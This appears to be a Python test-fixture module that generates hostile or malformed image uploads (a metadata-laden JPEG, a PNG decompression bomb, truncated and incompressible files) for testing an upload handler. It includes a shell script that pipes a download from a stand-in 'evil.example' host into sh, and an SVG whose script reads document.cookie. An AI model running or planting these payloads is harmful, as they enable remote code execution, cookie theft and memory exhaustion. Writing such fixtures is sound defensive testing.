"""Images a hostile (or careless) client might send, made in memory with Pillow."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image

GPS_IFD = 0x8825
ORIENTATION = 0x0112
XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><secret>where I live</secret></x:xmpmeta>'


def png(width: int = 300, height: int = 200, color: str = "orange") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), color).save(out, "PNG")
    return out.getvalue()


def jpeg_with_gps_and_orientation(orientation: int = 6) -> bytes:
    """200×100, top half red, bottom half blue, with GPS coordinates, an orientation that says
    "turn me 90° clockwise", a comment, an XMP packet and an ICC profile."""
    image = Image.new("RGB", (200, 100), "blue")
    image.paste(Image.new("RGB", (200, 50), "red"), (0, 0))
    exif = Image.Exif()
    exif[ORIENTATION] = orientation
    exif[0x010F] = "SpyCam"  # Make
    exif.get_ifd(GPS_IFD).update({1: "N", 2: (38.0, 42.0, 10.0), 3: "W", 4: (9.0, 8.0, 1.0)})
    out = io.BytesIO()
    image.save(
        out,
        "JPEG",
        exif=exif.tobytes(),
        comment=b"shot at home",
        xmp=XMP,
        icc_profile=b"\0" * 128,
    )
    return out.getvalue()


def png_bomb(width: int = 20_000, height: int = 20_000) -> bytes:
    """A PNG whose header declares ``width``×``height`` but whose file is a few dozen bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + chunk(b"IEND", b"")
    )


def truncated_jpeg() -> bytes:
    out = io.BytesIO()
    Image.effect_noise((400, 400), 64).convert("RGB").save(out, "JPEG", quality=95)
    data = out.getvalue()
    return data[: len(data) // 2]


SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script><rect width='10' height='10'/></svg>"
)


def noisy_png(side: int = 700) -> bytes:
    """A PNG that does not compress: about ``side``² × 1 bytes on disk (~0.5 MB at 700)."""
    out = io.BytesIO()
    Image.effect_noise((side, side), 100).save(out, "PNG")
    return out.getvalue()
